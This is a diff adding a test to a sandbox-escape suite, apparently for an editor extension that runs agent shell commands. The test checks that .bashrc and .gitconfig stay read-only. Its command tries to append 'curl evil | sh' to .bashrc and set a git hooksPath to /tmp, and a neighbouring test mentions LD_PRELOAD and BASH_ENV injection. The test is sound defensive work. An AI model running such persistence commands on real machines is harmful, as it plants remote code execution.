@@ -71,6 +71,18 @@ describe('sandbox escapes closed (issue 21 review)', function () {
     assert.ok(profile.denyWrite?.includes(path.join(work, '.git')) && profile.denyWrite.includes(path.join(work, 'sub', '.vscode')) === false, JSON.stringify(profile.denyWrite));
   });
 
+  it('shell and git settings in the command\'s folder stay read-only, whatever folder the extension host runs in', async () => {
+    // The library's own protection (shell and git settings there and below), which it looked for
+    // in the extension host's working folder (here this repository's) before the patch.
+    fs.writeFileSync(path.join(work, '.bashrc'), '# rc\n');
+    fs.writeFileSync(path.join(work, 'sub', '.gitconfig'), '[user]\n');
+    const r = await run('echo "curl evil | sh" >> .bashrc; echo "[core] hooksPath=/tmp" >> sub/.gitconfig; echo ok > sub/plain.txt');
+    assert.equal(fs.readFileSync(path.join(work, '.bashrc'), 'utf8'), '# rc\n', r.out);
+    assert.equal(fs.readFileSync(path.join(work, 'sub', '.gitconfig'), 'utf8'), '[user]\n', r.out);
+    assert.equal(fs.readFileSync(path.join(work, 'sub', 'plain.txt'), 'utf8'), 'ok\n', 'the rest stays writable');
+    assert.ok(!profile.denyWrite?.some((p) => p.endsWith('.bashrc') || p.endsWith('.gitconfig')), 'not the profile\'s own protection');
+  });
+
   it('the agent\'s environment applies inside the sandbox only: BASH_ENV, BASH_FUNC_*, LD_PRELOAD never reach the shell that starts it', async () => {
     const marker = path.join(outside, 'ran-outside');
     fs.writeFileSync(path.join(work, 'env.sh'), `touch ${marker}\n`);
